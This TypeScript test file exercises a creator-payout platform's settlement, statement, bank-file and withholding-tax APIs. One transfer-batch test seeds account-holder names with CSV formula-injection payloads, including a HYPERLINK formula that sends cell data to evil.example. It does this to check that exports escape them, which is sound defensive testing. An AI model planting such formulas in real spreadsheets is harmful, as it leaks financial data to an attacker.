// Income and settlement calls through the HTTP API: the creator's income, statements as PDF and CSV,
// and the finance console's settlement resources, each with its validation and permission errors.
import { execFileSync } from 'node:child_process';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { koreaMonthOf } from '@fanmission/contracts';
import { balance, earningsAccount, settledAccount, verify } from '@fanmission/ledger';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createAccount, type TestAccount } from '@fanmission/tests/harness/accounts';
import { useTestApp } from '@fanmission/tests/harness/app';
import { approveAs } from '@fanmission/tests/support/approvals';
import { createIncomeCreator, releasedMission, type IncomeCreator } from '@fanmission/tests/support/income';

const testApp = useTestApp();
const app = () => testApp.current.app;
const db = () => testApp.current.app.db;
const inMonth = (year: number, month: number, day = 15) => new Date(Date.UTC(year, month - 1, day, 3));

const get = (url: string, headers: Record<string, string> = {}, language = 'en') =>
  app().inject({ method: 'GET', url, headers: { 'accept-language': language, ...headers } });
const send = (method: 'POST' | 'PUT', url: string, headers: Record<string, string>, payload: object) =>
  app().inject({ method, url, headers: { 'accept-language': 'en', ...headers }, payload });

let creator: IncomeCreator;
let other: IncomeCreator;
let fan: TestAccount;
let operator: TestAccount;
let finance: TestAccount;
/** The second finance member who approves finance's statement decisions (services/src/approvals). */
let checker: TestAccount;
let statementId: number;

beforeAll(async () => {
  creator = await createIncomeCreator(app());
  other = await createIncomeCreator(app());
  fan = await createAccount(app());
  operator = await createAccount(app(), { roles: ['ROLE_USER', 'ROLE_OPERATOR'] });
  finance = await createAccount(app(), { roles: ['ROLE_USER', 'ROLE_FINANCE'] });
  checker = await createAccount(app(), { roles: ['ROLE_USER', 'ROLE_FINANCE'] });
  // March 2025: 3 missions, 600 coins, settled by finance.
  for (const [coins, name] of [
    [200, '생일 축하 영상'],
    [250, '노래 한 소절'],
    [150, '응원 메시지'],
  ] as const) {
    await releasedMission(db(), { creatorId: creator.creatorId, coins, at: inMonth(2025, 3), productName: name });
  }
  await releasedMission(db(), { creatorId: other.creatorId, coins: 100, at: inMonth(2025, 3) });
  const run = await send('POST', '/api/admin/settlement-runs', finance.headers, { year: 2025, month: 3 });
  expect(run.statusCode).toBe(200);
  const statement = await db()
    .selectFrom('settlement_statements')
    .select('id')
    .where('creator_id', '=', creator.creatorId)
    .executeTakeFirstOrThrow();
  statementId = statement.id;
  // This month so far: 70 coins, not settled.
  await releasedMission(db(), { creatorId: creator.creatorId, coins: 70, at: new Date() });
});

afterAll(async () => {
  expect((await verify(db())).differences).toEqual([]);
});

describe('POST /api/admin/settlement-runs', () => {
  it('settles a month for finance; running it again changes nothing', async () => {
    await releasedMission(db(), { creatorId: other.creatorId, coins: 900, at: inMonth(2025, 4) });
    const first = await send('POST', '/api/admin/settlement-runs', finance.headers, { year: 2025, month: 4 });
    expect(first.statusCode).toBe(200);
    expect(first.json()).toMatchObject({ year: 2025, month: 4, issued: 1, settledCoins: 1_000 });
    const again = await send('POST', '/api/admin/settlement-runs', finance.headers, { year: 2025, month: 4 });
    expect(again.json()).toMatchObject({ issued: 0, carriedOver: 0, settledCoins: 0, statementIds: [] });
  });

  it('refuses a month that has not ended (409) and invalid months (400)', async () => {
    const now = koreaMonthOf(new Date());
    const current = await send('POST', '/api/admin/settlement-runs', finance.headers, now);
    expect(current.statusCode).toBe(409);
    expect(current.json()).toMatchObject({ code: 'MONTH_NOT_ENDED' });
    const invalid = await send('POST', '/api/admin/settlement-runs', finance.headers, { year: 2017, month: 13 });
    expect(invalid.statusCode).toBe(400);
    const fields = invalid.json<{ subErrors: Array<{ field: string }> }>().subErrors.map((error) => error.field);
    expect(fields.sort()).toEqual(['month', 'year']);
    const missing = await send('POST', '/api/admin/settlement-runs', finance.headers, { year: 2025 });
    expect(missing.statusCode).toBe(400);
  });

  it('is finance’s: operators and others are refused', async () => {
    const body = { year: 2025, month: 3 };
    expect((await send('POST', '/api/admin/settlement-runs', operator.headers, body)).statusCode).toBe(403);
    expect((await send('POST', '/api/admin/settlement-runs', creator.headers, body)).statusCode).toBe(403);
    expect((await send('POST', '/api/admin/settlement-runs', {}, body)).statusCode).toBe(401);
  });
});

describe('creator income', () => {
  it('GET /creators/me/incomes/accumulated(-new): all-time totals, settled and not', async () => {
    const old = await get('/api/v1/creators/me/incomes/accumulated', creator.headers);
    expect(old.statusCode).toBe(200);
    // 600 settled coins × 60 + 70 open coins × 60 (Silver)
    expect(old.json()).toEqual({ totalEarning: 40_200, paidIncome: 0 });
    const fresh = await get('/api/v1/creators/me/incomes/accumulated-new', creator.headers);
    expect(fresh.json()).toEqual({
      totalEarningCoin: 670,
      income: 40_200,
      pgFee: 6_700,
      fatkatFee: 20_100,
      toReceipt: 40_200,
      // A business-registered creator: nothing withheld.
      withheld: 0,
    });
    expect((await get('/api/v1/creators/me/incomes/accumulated', fan.headers)).statusCode).toBe(403);
    expect((await get('/api/v1/creators/me/incomes/accumulated-new', {})).statusCode).toBe(401);
  });

  it('counts a release appended after its month was settled as earned and not on a statement yet', async () => {
    const late = await createIncomeCreator(app());
    await releasedMission(db(), { creatorId: late.creatorId, coins: 600, at: inMonth(2025, 7) });
    const run = await send('POST', '/api/admin/settlement-runs', finance.headers, { year: 2025, month: 7 });
    expect(run.json()).toMatchObject({ issued: 1 });
    // Appended now, dated July: July's statement is issued, so the next statement pays it.
    await releasedMission(db(), { creatorId: late.creatorId, coins: 40, at: inMonth(2025, 7) });
    const totals = await get('/api/v1/creators/me/incomes/accumulated-new', late.headers);
    expect(totals.json()).toMatchObject({ totalEarningCoin: 640 });
  });

  it('GET /creators/{id}/incomes/by-month(-new): a settled month from its statement, this month so far', async () => {
    const settled = await get(
      `/api/v1/creators/${creator.creatorId}/incomes/by-month-new?year=2025&month=3`,
      creator.headers,
    );
    expect(settled.statusCode).toBe(200);
    expect(settled.json()).toMatchObject({
      settled: true,
      statementId,
      totalEarningCoin: 600,
      income: 36_000,
      pgFee: 6_000,
      // A business-registered creator: nothing withheld.
      taxWithheld: 0,
      localTaxWithheld: 0,
      // What the coins sold for, the fees coming out of it (docs/rules/settlement.md), and paid: over the minimum.
      gross: 60_000,
      overseasFee: 0,
      minimumCoins: 500,
      carriesOver: false,
    });
    const now = koreaMonthOf(new Date());
    const current = await get(
      `/api/v1/creators/${creator.creatorId}/incomes/by-month-new?year=${now.year}&month=${now.month}`,
      creator.headers,
    );
    expect(current.json()).toMatchObject({
      settled: false,
      statementId: null,
      totalEarningCoin: 70,
      income: 4_200,
      grade: 'SILVER',
      gross: 7_000,
      // 70 coins, under the 500-coin minimum: carried over to next month, not paid.
      minimumCoins: 500,
      carriesOver: true,
    });
    const old = await get(`/api/v1/creators/${creator.creatorId}/incomes/by-month?year=2025&month=3`, creator.headers);
    expect(old.json()).toEqual({ totalEarning: 36_000, paidIncome: 0 });
  });

  it('by-month: operators and finance may read, another creator and fans get 403, bad months 400', async () => {
    const url = `/api/v1/creators/${creator.creatorId}/incomes/by-month?year=2025&month=3`;
    expect((await get(url, operator.headers)).statusCode).toBe(200);
    expect((await get(url, finance.headers)).statusCode).toBe(200);
    expect((await get(url, other.headers)).statusCode).toBe(403);
    expect((await get(url, fan.headers)).statusCode).toBe(403);
    expect((await get(url)).statusCode).toBe(401);
    // An unknown creator is 403 for a creator (no existence leak) and 404 for staff.
    expect((await get('/api/v1/creators/999999/incomes/by-month?year=2025&month=3', other.headers)).statusCode).toBe(
      403,
    );
    expect((await get('/api/v1/creators/999999/incomes/by-month?year=2025&month=3', operator.headers)).statusCode).toBe(
      404,
    );
    const bad = await get(
      `/api/v1/creators/${creator.creatorId}/incomes/by-month-new?year=2017&month=13`,
      creator.headers,
      'ko',
    );
    expect(bad.statusCode).toBe(400);
    expect(
      bad
        .json<{ subErrors: Array<{ field: string }> }>()
        .subErrors.map((error) => error.field)
        .sort(),
    ).toEqual(['month', 'year']);
    const missing = await get(`/api/v1/creators/${creator.creatorId}/incomes/by-month?year=2025`, creator.headers);
    expect(missing.statusCode).toBe(400);
  });

  it('GET /creators/me/incomes/page and incomes-new/page: statements, 12 a page', async () => {
    for (const url of ['/api/v1/creators/me/incomes/page', '/api/v1/creators/me/incomes-new/page']) {
      const response = await get(url, creator.headers);
      expect(response.statusCode).toBe(200);
      const page = response.json<{ content: Array<Record<string, unknown>>; size: number; totalElements: number }>();
      expect(page.size).toBe(12);
      expect(page.totalElements).toBe(1);
      expect(page.content[0]).toMatchObject({
        id: statementId,
        year: 2025,
        month: 3,
        totalEarningCoin: 600,
        income: 36_000,
        pgFee: 6_000,
        pgFeeRate: 10,
        fatkatFee: 18_000,
        fatkatFeeRate: 30,
        advancedPaymentCurrent: 0,
        advancedPaymentFeeRate: 0,
        advancedPaymentTotal: 0,
        totalIntroductionFee: 0,
        totalIntroductionFeeCoin: 0,
        toReceipt: 36_000,
        paid: false,
        // The account it pays, as issued, the number masked to its last four digits.
        payTo: { bankName: '국민은행', bankAccountNumber: expect.stringMatching(/^\*{4}\d{4}$/) },
      });
    }
    expect((await get('/api/v1/creators/me/incomes/page?page=-1', creator.headers)).statusCode).toBe(400);
    expect((await get('/api/v1/creators/me/incomes/page', fan.headers)).statusCode).toBe(403);
  });

  it('GET /creators/{id}/incomes-detail/page: the month’s missions', async () => {
    const response = await get(
      `/api/v1/creators/${creator.creatorId}/incomes-detail/page?incomeYear=2025&incomeMonth=3`,
      creator.headers,
    );
    expect(response.statusCode).toBe(200);
    const page = response.json<{ content: Array<Record<string, unknown>>; size: number; totalElements: number }>();
    expect(page).toMatchObject({ size: 12, totalElements: 3 });
    expect(page.content.map((row) => row.missionProductName).sort()).toEqual([
      '노래 한 소절',
      '생일 축하 영상',
      '응원 메시지',
    ]);
    expect(page.content[0]).toEqual({
      missionId: expect.any(Number),
      missionProductType: 'BASIC',
      username: expect.any(String),
      missionProductName: expect.any(String),
      coinPrice: expect.any(Number),
      completed: expect.any(String),
    });
    const url = `/api/v1/creators/${creator.creatorId}/incomes-detail/page?incomeYear=2025&incomeMonth=3`;
    expect((await get(url, other.headers)).statusCode).toBe(403);
    expect((await get(url, operator.headers)).statusCode).toBe(200);
    expect(
      (await get(`/api/v1/creators/${creator.creatorId}/incomes-detail/page?incomeYear=2025`, creator.headers))
        .statusCode,
    ).toBe(400);
  });

  it('downloads a statement as CSV and as a PDF with the Korean text in it', async () => {
    const csv = await get(`/api/v1/creators/me/incomes/${statementId}/csv`, creator.headers, 'ko');
    expect(csv.statusCode).toBe(200);
    expect(csv.headers['content-type']).toMatch(/^text\/csv/);
    // It names the payee and the account it pays, words its codes and groups the digits of its amounts.
    const payee = await db()
      .selectFrom('creators')
      .select('name')
      .where('id', '=', creator.creatorId)
      .executeTakeFirstOrThrow();
    const cells = csv.body
      .replace(/^\uFEFF/, '')
      .split('\r\n')
      .map((line) => line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/));
    const value = (name: string) => cells.find((record) => record[0] === name)?.[1];
    expect(value('수취인')).toBe(payee.name);
    expect(value('크리에이터 번호')).toBe(String(creator.creatorId));
    expect(value('지급 계좌')).toMatch(/^국민은행 \d+ 홍길동$/);
    expect(value('상태')).toBe('발행');
    expect(value('등급')).toBe('실버');
    expect(value('지급액 (원)')).toBe('"36,000"');
    // Due on 2025-04-10 and not paid.
    expect(value('지급 여부')).toBe('미지급 (지급 예정일 경과)');
    expect(csv.body).toContain('생일 축하 영상');
    expect(cells.some((record) => record[1] === '기본' && record[2] === '생일 축하 영상')).toBe(true);
    expect(csv.body).not.toMatch(/ISSUED|SILVER|BASIC/);

    const pdf = await get(`/api/v1/creators/me/incomes/${statementId}/pdf`, creator.headers, 'ko');
    expect(pdf.statusCode).toBe(200);
    expect(pdf.headers['content-type']).toBe('application/pdf');
    expect(pdf.rawPayload.subarray(0, 5).toString()).toBe('%PDF-');
    const dir = await mkdtemp(path.join(tmpdir(), 'statement-'));
    try {
      const file = path.join(dir, 'statement.pdf');
      await writeFile(file, pdf.rawPayload);
      const text = execFileSync('pdftotext', ['-layout', file, '-'], { encoding: 'utf8' });
      expect(text).toContain('월 정산서');
      expect(text).toContain('생일 축하 영상');
      expect(text).toMatch(/지급액 \(원\)\s+36,000/);
      expect(text).toContain(payee.name);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }

    expect((await get(`/api/v1/creators/me/incomes/${statementId}/pdf`, other.headers)).statusCode).toBe(404);
    expect((await get(`/api/v1/creators/me/incomes/${statementId}/csv`, fan.headers)).statusCode).toBe(403);
    expect((await get(`/api/v1/creators/me/incomes/abc/csv`, creator.headers)).statusCode).toBe(400);
  });
});

describe('/api/admin/settlements', () => {
  it('lists statements by month and status with bank details, for finance only', async () => {
    const url = `/api/admin/settlements?filter=${encodeURIComponent(JSON.stringify({ year: 2025, month: 3, status: 'ISSUED' }))}`;
    const response = await get(url, finance.headers);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-range']).toMatch(/^settlements 0-\d+\/\d+$/);
    const rows = response.json<Array<Record<string, unknown>>>();
    const mine = rows.find((row) => row.id === statementId);
    expect(mine).toMatchObject({
      creatorId: creator.creatorId,
      bankName: '국민은행',
      bankAccountHolder: '홍길동',
      dueDate: '2025-04-10',
      // Due 2025-04-10 and unpaid: overdue.
      overdue: true,
    });
    expect(rows.every((row) => row.status === 'ISSUED' && row.month === 3)).toBe(true);
    expect((await get(url, operator.headers)).statusCode).toBe(403);
    expect((await get(url, creator.headers)).statusCode).toBe(403);
    expect((await get('/api/admin/settlements?filter=nope', finance.headers)).statusCode).toBe(400);
    expect(
      (await get(`/api/admin/settlements?filter=${encodeURIComponent('{"status":"LOST"}')}`, finance.headers))
        .statusCode,
    ).toBe(400);
  });

  it('shows one statement with its mission lines', async () => {
    const response = await get(`/api/admin/settlements/${statementId}`, finance.headers);
    expect(response.statusCode).toBe(200);
    const detail = response.json<{ lines: Array<{ coins: number }>; totalEarningCoin: number }>();
    expect(detail.lines.map((line) => line.coins).sort()).toEqual([150, 200, 250]);
    expect(detail.totalEarningCoin).toBe(600);
    expect((await get('/api/admin/settlements/999999', finance.headers)).statusCode).toBe(404);
    expect((await get(`/api/admin/settlements/${statementId}`, operator.headers)).statusCode).toBe(403);
  });

  it('downloads a statement as its creator does, for finance only', async () => {
    const pdf = await get(`/api/admin/settlements/${statementId}/pdf`, finance.headers, 'ko');
    expect(pdf.statusCode).toBe(200);
    expect(pdf.headers['content-type']).toBe('application/pdf');
    expect(pdf.headers['content-disposition']).toBe(
      `attachment; filename="fanmission-statement-2025-03-${statementId}.pdf"`,
    );
    expect(pdf.rawPayload.subarray(0, 5).toString()).toBe('%PDF-');
    const csv = await get(`/api/admin/settlements/${statementId}/csv`, finance.headers, 'en');
    expect(csv.statusCode).toBe(200);
    expect(csv.body).toContain('생일 축하 영상');
    expect(csv.body).not.toContain('지급액');
    expect((await get(`/api/admin/settlements/${statementId}/pdf`, operator.headers)).statusCode).toBe(403);
    expect((await get(`/api/admin/settlements/${statementId}/csv`, creator.headers)).statusCode).toBe(403);
    expect((await get('/api/admin/settlements/999999/pdf', finance.headers)).statusCode).toBe(404);
    expect((await get('/api/admin/settlements/abc/csv', finance.headers)).statusCode).toBe(400);
  });

  it('writes a transfer batch’s bank file', async () => {
    const march = await get('/api/admin/settlement-transfer-batches/preview?year=2025&month=3', finance.headers);
    expect(march.statusCode).toBe(200);
    // The statement is ISSUED: nobody approved it, so no money leaves for it.
    expect(march.json<{ statementIds: number[] }>().statementIds).not.toContain(statementId);

    // A holder that a spreadsheet would read as a formula is written as text.
    const formulas = ['=HYPERLINK("https://evil.example/?"&C2,"확인")', '+1+2', '-3', '@SUM(1)', '\tx', '\rx'];
    for (const holder of formulas) {
      const writer = await createIncomeCreator(app());
      await db()
        .updateTable('creators')
        .set({ bank_account_holder: holder })
        .where('id', '=', writer.creatorId)
        .execute();
      await releasedMission(db(), { creatorId: writer.creatorId, coins: 600, at: inMonth(2025, 6) });
    }
    expect(
      (await send('POST', '/api/admin/settlement-runs', finance.headers, { year: 2025, month: 6 })).statusCode,
    ).toBe(200);
    await approveAs(
      app(),
      checker,
      await send('POST', '/api/admin/settlements/batches', finance.headers, {
        action: 'approve',
        year: 2025,
        month: 6,
      }),
    );
    const batch = await send('POST', '/api/admin/settlement-transfer-batches', finance.headers, {
      year: 2025,
      month: 6,
    });
    expect(batch.statusCode, batch.body).toBe(201);
    const { id, releaseApprovalId } = batch.json<{ id: number; releaseApprovalId: number }>();
    const released = await send('POST', `/api/admin/approvals/${releaseApprovalId}/decision`, checker.headers, {
      decision: 'approve',
    });
    expect(released.statusCode, released.body).toBe(200);
    const response = await get(`/api/admin/settlement-transfer-batches/${id}/file`, finance.headers);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toMatch(/^text\/csv/);
    const june = response.body;
    const holders = june
      .replace('\uFEFF', '')
      .split('\r\n')
      .slice(1, -1)
      .map((line) => line.split(',')[3]);
    expect(holders).toHaveLength(formulas.length);
    for (const holder of holders) expect(holder).toMatch(/^"?'/);
    expect(june).toContain(`"'=HYPERLINK(""https://evil.example/?""&C2`);
    expect(june).toContain(`,'+1+2,`);
    expect(june).toContain(`,'-3,`);
    expect(june).toContain(`,'@SUM(1),`);
    expect(june).toContain(`,'\tx,`);
    expect(june).toContain(`,"'\rx",`);
    expect((await get('/api/admin/settlement-transfer-batches/preview?year=2025', finance.headers)).statusCode).toBe(
      400,
    );
    expect((await get(`/api/admin/settlement-transfer-batches/${id}/file`, operator.headers)).statusCode).toBe(403);
  });

  it('approves, then marks paid with the transfer reference and date, each approved by a second member; the creator sees it paid', async () => {
    const url = `/api/admin/settlements/${statementId}`;
    const invalid = await send('PUT', url, finance.headers, { action: 'pay', transferDate: '2025-04-31' });
    expect(invalid.statusCode).toBe(400);
    expect(
      invalid
        .json<{ subErrors: Array<{ field: string }> }>()
        .subErrors.map((error) => error.field)
        .sort(),
    ).toEqual(['transferDate', 'transferReference']);
    expect((await send('PUT', url, operator.headers, { action: 'approve' })).statusCode).toBe(403);

    const notYet = await send('PUT', url, finance.headers, {
      action: 'pay',
      transferReference: 'KB-20250410-0001',
      transferDate: '2025-04-10',
    });
    expect(notYet.statusCode).toBe(409);
    expect(notYet.json()).toMatchObject({ code: 'STATEMENT_NOT_APPROVED' });
    const approved = await approveAs(app(), checker, await send('PUT', url, finance.headers, { action: 'approve' }));
    expect(approved).toMatchObject({ status: 'APPROVED', approvedAt: expect.any(String) });
    expect((await send('PUT', url, finance.headers, { action: 'approve' })).statusCode).toBe(200);
    const paid = await approveAs(
      app(),
      checker,
      await send('PUT', url, finance.headers, {
        action: 'pay',
        transferReference: 'KB-20250410-0001',
        transferDate: '2025-04-10',
      }),
    );
    expect(paid).toMatchObject({
      status: 'PAID',
      paid: true,
      overdue: false,
      transferReference: 'KB-20250410-0001',
      transferDate: '2025-04-10',
    });
    expect((await send('PUT', url, finance.headers, { action: 'approve' })).statusCode).toBe(409);
    expect(
      (await send('PUT', '/api/admin/settlements/999999', finance.headers, { action: 'approve' })).statusCode,
    ).toBe(404);

    const income = await get('/api/v1/creators/me/incomes/accumulated', creator.headers);
    expect(income.json()).toMatchObject({ paidIncome: 36_000 });
    const page = await get('/api/v1/creators/me/incomes/page', creator.headers);
    expect(page.json<{ content: Array<{ paid: boolean }> }>().content[0]!.paid).toBe(true);
  });

  it('refuses to pay a carried-over month (409)', async () => {
    const small = await createIncomeCreator(app());
    await releasedMission(db(), { creatorId: small.creatorId, coins: 30, at: inMonth(2025, 5) });
    await send('POST', '/api/admin/settlement-runs', finance.headers, { year: 2025, month: 5 });
    const carried = await db()
      .selectFrom('settlement_statements')
      .select('id')
      .where('creator_id', '=', small.creatorId)
      .executeTakeFirstOrThrow();
    const response = await send('PUT', `/api/admin/settlements/${carried.id}`, finance.headers, {
      action: 'pay',
      transferReference: 'X',
      transferDate: '2025-06-10',
    });
    expect(response.statusCode).toBe(409);
  });
});

describe('/api/admin/grade-proposals', () => {
  it('lists the review’s proposals; another grade confirmed (with finance) becomes the grade of the next month', async () => {
    const list = await get(
      `/api/admin/grade-proposals?filter=${encodeURIComponent(JSON.stringify({ reviewMonth: '2025-03', creatorId: creator.creatorId }))}`,
      operator.headers,
    );
    expect(list.statusCode).toBe(200);
    const [proposal] =
      list.json<Array<{ id: number; onTimeCompleted: number; proposedGrade: string; appliesMonth: string }>>();
    expect(proposal).toMatchObject({ onTimeCompleted: 3, proposedGrade: 'SILVER', appliesMonth: '2025-04' });
    expect((await get('/api/admin/grade-proposals', finance.headers)).statusCode).toBe(200);
    expect((await get('/api/admin/grade-proposals', creator.headers)).statusCode).toBe(403);

    const url = `/api/admin/grade-proposals/${proposal!.id}`;
    expect((await send('PUT', url, finance.headers, { grade: 'GOLD' })).statusCode).toBe(403);
    expect((await send('PUT', url, operator.headers, { grade: 'PLATINUM' })).statusCode).toBe(400);
    // Another grade than the proposed one sets a payout rate: a finance member approves it first.
    const asked = await send('PUT', url, operator.headers, { grade: 'GOLD' });
    expect(asked.statusCode, asked.body).toBe(202);
    expect(asked.json()).toMatchObject({
      kind: 'GRADE_PROPOSAL_OVERRIDE',
      summary: { proposalId: proposal!.id, proposed: 'SILVER', chosen: 'GOLD' },
    });
    const confirmed = await approveAs(app(), finance, asked);
    expect(confirmed).toMatchObject({ status: 'CONFIRMED', confirmedGrade: 'GOLD' });
    expect((await send('PUT', url, operator.headers, { grade: 'GOLD' })).statusCode).toBe(200);
    expect((await send('PUT', url, operator.headers, { grade: 'DIAMOND' })).statusCode).toBe(409);
    expect((await send('PUT', '/api/admin/grade-proposals/999999', operator.headers, {})).statusCode).toBe(404);

    const grade = await db()
      .selectFrom('creator_monthly_grades')
      .selectAll()
      .where('creator_id', '=', creator.creatorId)
      .executeTakeFirstOrThrow();
    expect(grade).toMatchObject({ month: '2025-04', grade: 'GOLD' });
    // April 2025 has begun long ago: the creator is Gold now, and April's earnings are valued at 70.
    const row = await db()
      .selectFrom('creators')
      .select('grade')
      .where('id', '=', creator.creatorId)
      .executeTakeFirstOrThrow();
    expect(row.grade).toBe('GOLD');
    const april = await get(
      `/api/v1/creators/${creator.creatorId}/incomes/by-month-new?year=2025&month=4`,
      creator.headers,
    );
    expect(april.json()).toMatchObject({ grade: 'GOLD', totalEarningCoin: 0 });
  });
});

describe('withholding tax of individual creators (docs/rules/settlement.md)', () => {
  it('withholds 3 % income tax and 0.3 % local income tax from a domestic individual, none under 1,000 won', async () => {
    // No business registration: 1,000 coins at Silver (60,000 won) and 555 coins (33,300 won: 999 won of tax).
    const individual = await createIncomeCreator(app(), { businessType: 'NONE' });
    const small = await createIncomeCreator(app(), { businessType: null });
    // The birth date he gave at sign-up (the withholding summary carries it); the other gave none (a social sign-up).
    await db().updateTable('users').set({ birth_date: '1990-01-02' }).where('id', '=', individual.id).execute();
    await db().updateTable('users').set({ birth_date: null }).where('id', '=', small.id).execute();
    const registered = await createIncomeCreator(app(), { businessType: 'CORPORATION' });
    await releasedMission(db(), { creatorId: individual.creatorId, coins: 1_000, at: inMonth(2025, 11) });
    await releasedMission(db(), { creatorId: small.creatorId, coins: 555, at: inMonth(2025, 11) });
    await releasedMission(db(), { creatorId: registered.creatorId, coins: 1_000, at: inMonth(2025, 11) });
    const run = await send('POST', '/api/admin/settlement-runs', finance.headers, { year: 2025, month: 11 });
    expect(run.statusCode).toBe(200);

    const statementOf = async (who: IncomeCreator) => {
      const page = await get('/api/v1/creators/me/incomes-new/page', who.headers);
      expect(page.statusCode).toBe(200);
      return page.json<{ content: Array<Record<string, unknown>> }>().content[0];
    };
    expect(await statementOf(individual)).toMatchObject({
      status: 'ISSUED',
      income: 60_000,
      overseasFee: 0,
      taxWithheld: 1_800,
      taxRate: 3,
      localTaxWithheld: 180,
      localTaxRate: 0.3,
      toReceipt: 58_020,
    });
    // 소액부징수: 999 won of income tax is not withheld, nor its local tax.
    expect(await statementOf(small)).toMatchObject({
      income: 33_300,
      taxWithheld: 0,
      localTaxWithheld: 0,
      toReceipt: 33_300,
    });
    // The month's income shows the taxes withheld, from the statement.
    const month = await get(
      `/api/v1/creators/${individual.creatorId}/incomes/by-month-new?year=2025&month=11`,
      individual.headers,
    );
    expect(month.json()).toMatchObject({ settled: true, taxWithheld: 1_800, localTaxWithheld: 180, toReceipt: 58_020 });
    expect(await statementOf(registered)).toMatchObject({
      income: 60_000,
      taxWithheld: 0,
      taxRate: 0,
      localTaxWithheld: 0,
      localTaxRate: 0,
      toReceipt: 60_000,
    });

    // The statement's CSV (and PDF: the same rows) names both taxes with their rates.
    const individualStatement = (await statementOf(individual))!;
    const csv = await get(
      `/api/v1/creators/me/incomes/${String(individualStatement.id)}/csv`,
      individual.headers,
      'ko',
    );
    expect(csv.statusCode).toBe(200);
    expect(csv.body).toContain('원천징수 세금 (원) 3%,"1,800"');
    expect(csv.body).toContain('지방소득세 (원) 0.3%,180');
    expect(csv.body).toContain('지급액 (원),"58,020"');

    // Finance sees the same amounts; the ledger moved all the coins, the taxes only lower what is transferred.
    const listUrl = `/api/admin/settlements?filter=${encodeURIComponent(JSON.stringify({ creatorId: individual.creatorId }))}`;
    const listed = await get(listUrl, finance.headers);
    expect(listed.statusCode).toBe(200);
    expect(listed.json<Array<Record<string, unknown>>>()[0]).toMatchObject({
      taxWithheld: 1_800,
      localTaxWithheld: 180,
      toReceipt: 58_020,
    });
    for (const [who, coins] of [
      [individual, 1_000],
      [small, 555],
    ] as const) {
      expect(await balance(db(), settledAccount(who.creatorId))).toMatchObject({ balance: coins });
      expect(await balance(db(), earningsAccount(who.creatorId))).toMatchObject({ balance: 0 });
    }
    // The database keeps each statement balanced with the local tax: income = toReceipt + fees + both taxes.
    await expect(
      db()
        .updateTable('settlement_statements')
        .set({ local_tax_withheld: 0 })
        .where('creator_id', '=', individual.creatorId)
        .execute(),
    ).rejects.toThrow();
  });

  it('GET /api/admin/settlements/withholding-summary: the month’s withholding per creator and its totals, finance only', async () => {
    const url = '/api/admin/settlements/withholding-summary?year=2025&month=11';
    const response = await get(url, finance.headers);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toMatch(/^text\/csv/);
    expect(response.headers['content-disposition']).toContain('settlement-withholding-2025-11.csv');
    expect(response.body.startsWith('\uFEFF')).toBe(true);
    const records = response.body
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\r\n')
      .map((line) => line.split(','));
    // Korean headers, with what a 간이지급명세서 (거주자의 사업소득) needs: the months, the earner (the payout account's
    // holder, whose name the identity check verified), 내외국인, the birth date he gave at sign-up, an empty column for
    // the 주민등록번호 finance fills (the product keeps none), the 업종코드, the amount, the rate and both taxes.
    expect(records[0]).toEqual([
      '귀속연월',
      '지급연월',
      '소득자 성명',
      '내외국인',
      '생년월일',
      '주민등록번호',
      '업종코드',
      '소득구분',
      '지급액',
      '세율',
      '소득세',
      '지방소득세',
      '활동명',
      '크리에이터 번호',
      '정산서 번호',
    ]);
    // The two individuals of the first test (one under 소액부징수), not the business-registered creator.
    const filing = records.slice(1).map((record) => record.slice(0, 12));
    expect(filing).toEqual([
      [
        '202511',
        '202512',
        '홍길동',
        '내국인',
        '19900102',
        '',
        '940306',
        '거주자 사업소득',
        '60000',
        '3%',
        '1800',
        '180',
      ],
      ['202511', '202512', '홍길동', '내국인', '', '', '940306', '거주자 사업소득', '33300', '3%', '0', '0'],
      ['합계', '', '', '', '', '', '', '', '93300', '', '1800', '180'],
    ]);
    // A month without any: the header and a zero total.
    const empty = await get('/api/admin/settlements/withholding-summary?year=2019&month=1', finance.headers);
    expect(
      empty.body
        .replace(/^\uFEFF/, '')
        .trim()
        .split('\r\n'),
    ).toHaveLength(2);

    expect((await get(url, operator.headers)).statusCode).toBe(403);
    expect((await get(url, creator.headers)).statusCode).toBe(403);
    expect((await get(url, {})).statusCode).toBe(401);
    const invalid = await get('/api/admin/settlements/withholding-summary?year=2025&month=13', finance.headers, 'ko');
    expect(invalid.statusCode).toBe(400);
    expect(JSON.stringify(invalid.json())).toContain('month');
    expect((await get('/api/admin/settlements/withholding-summary?month=11', finance.headers)).statusCode).toBe(400);
  });
});
